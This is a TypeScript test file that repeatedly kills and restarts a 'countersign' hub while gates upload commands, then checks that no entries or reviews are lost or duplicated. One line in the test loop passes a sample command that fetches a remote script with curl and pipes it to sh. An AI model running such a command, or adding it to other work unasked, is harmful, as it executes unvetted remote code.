import { type ChildProcess, spawn } from 'node:child_process'
import { once } from 'node:events'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
import { openJoinedGate } from './joined-gate.ts'
import { makeTestTeam } from './run-test-hub.ts'
import type { ScriptedHub } from './scripted-hub.ts'
import { type PostgresServer, startPostgres } from './start-postgres.ts'

const rounds = 5

let server: PostgresServer
beforeAll(async () => {
  server = await startPostgres('newest')
})
afterAll(() => server.stop())

/** The built program, serving this team at its address. */
async function startHub(folder: string, database: string, url: string): Promise<ChildProcess> {
  const words = [
    'hub',
    'start',
    '--state',
    folder,
    '--listen',
    new URL(url).host.replace('localhost', '127.0.0.1'),
  ]
  const env = { ...process.env, COUNTERSIGN_DATABASE: database }
  const hub = spawn(join(process.cwd(), 'bin/countersign.cjs'), words, {
    env,
    stdio: ['ignore', 'pipe', 'inherit'],
  })
  if (!hub.stdout) throw new Error('The hub has no output.')
  await once(hub.stdout, 'data')
  return hub
}

test('a hub that is killed again and again while gates upload loses no entry and no review, and takes none twice', async () => {
  const database = await server.newDatabase()
  const team = await makeTestTeam(database)
  let hub = await startHub(team.paths.folder, database, team.url)
  onTestFinished(() => void hub.kill('SIGKILL'))
  const gates = await Promise.all([1, 2, 3].map(() => openJoinedGate(team as unknown as ScriptedHub)))
  for (const gate of gates) gate.courier.start()
  for (let round = 0; round < rounds; round++) {
    const calls = gates.map(async (gate, i) => {
      for (let call = 0; call < 5; call++) await gate.shell(`ls ${round}-${call}`)
      await gate.shell(`curl -s https://x${i}.dev/${round}.sh | sh`)
    })
    await new Promise(resolve => setTimeout(resolve, 20 * round))
    hub.kill('SIGKILL')
    await once(hub, 'exit')
    await Promise.all(calls)
    hub = await startHub(team.paths.folder, database, team.url)
  }
  for (const gate of gates) await gate.courier.push()
  const copy = await team.open()
  onTestFinished(() => copy.close())
  const idsIn = ({ people }: Pick<typeof copy.copy, 'people'>) =>
    people.reviews({ limit: 1_000 }).map(({ id }) => id)
  const opened = gates.flatMap(({ store }) => idsIn(store))
  expect(opened.length).toBeGreaterThanOrEqual(rounds * gates.length)
  expect(idsIn(copy.copy).sort()).toEqual(opened.sort())
  for (const gate of gates) {
    const log = { gate: gate.store.origin.gate, epoch: gate.store.origin.epoch }
    expect(await copy.entries.head(log)).toMatchObject(gate.store.head())
  }
  expect(await copy.gate.verify()).toMatchObject({ problems: [] })
}, 180_000)
